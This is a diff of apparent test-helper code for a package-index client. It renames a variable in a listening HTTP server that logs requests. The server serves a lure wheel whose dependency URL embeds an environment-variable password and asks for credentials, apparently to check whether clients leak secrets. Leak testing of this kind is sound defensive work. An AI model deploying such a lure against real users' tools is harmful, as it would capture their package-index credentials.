@@ -22,11 +22,11 @@ class _Listener(BaseHTTPRequestHandler):
     """Answers whatever makes a client tell more."""
 
     protocol_version = "HTTP/1.1"
-    told: list[str]
+    heard: list[str]
 
     def do_GET(self) -> None:
         """Write down the request, and ask for credentials where none came."""
-        self.told.append(f"{self.requestline}\n{self.headers}")
+        self.heard.append(f"{self.requestline}\n{self.headers}")
         host = f"http://{self.headers['Host']}"
         need = f"Requires-Dist: more @ {host}/${{UV_INDEX_HOUSE_PASSWORD}}/more-1.0-py3-none-any.whl\n"
         file = f"{LURE}-1.0-py3-none-any.whl"
@@ -55,9 +55,9 @@ class _Listener(BaseHTTPRequestHandler):
 @contextmanager
 def listening_index(host: str) -> Iterator[tuple[str, list[str]]]:
     """Address of a server, and everything that it is told while the block runs."""
-    told: list[str] = []
-    with served(host, type("Listener", (_Listener,), {"told": told})) as address:
-        yield address, told
+    heard: list[str] = []
+    with served(host, type("Listener", (_Listener,), {"heard": heard})) as address:
+        yield address, heard
 
 
 class _Handler(BaseHTTPRequestHandler):
